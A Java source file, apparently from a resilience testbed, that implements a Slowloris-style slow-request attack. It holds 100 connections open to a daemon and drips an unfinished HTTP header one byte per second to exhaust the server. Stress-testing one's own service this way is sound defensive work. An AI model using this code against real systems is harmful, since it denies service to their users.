package io.reseal.testbed.hostile;

import java.io.IOException;
import java.net.URI;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/** Requests that come one byte a second, and so have no end. */
final class SlowRequests extends Attack {
    private static final int AT_ONCE = 100;
    private static final int FROM = 40;
    private static final Duration STEP = Duration.ofSeconds(1);
    private static final String WORDS = "GET /v1/guests HTTP/1.1\r\nX-Endless: ";

    private final URI daemon;
    private final List<Slow> all = new ArrayList<>();

    private record Slow(HostileClient client, int said) {}

    SlowRequests(URI daemon) {
        super(Sight.of("slow requests", "bytes"));
        this.daemon = daemon;
    }

    @Override
    void strike() throws IOException, InterruptedException {
        while (all.size() < AT_ONCE) {
            all.add(new Slow(HostileClient.connect(daemon, FROM + all.size() % 4), 0));
        }
        all.replaceAll(this::goOn);
        all.removeIf(slow -> slow.client().socket().isClosed());
        Thread.sleep(STEP);
    }

    private Slow goOn(Slow slow) {
        try {
            slow.client().send(slow.said() < WORDS.length() ? WORDS.substring(slow.said(), slow.said() + 1) : "x");
            count(1);
        } catch (IOException ended) {
            close(slow);
        }
        return new Slow(slow.client(), slow.said() + 1);
    }

    private static void close(Slow slow) {
        try {
            slow.client().close();
        } catch (IOException _) {
            // closed is closed
        }
    }

    @Override
    void release() {
        List.copyOf(all).forEach(SlowRequests::close);
    }
}
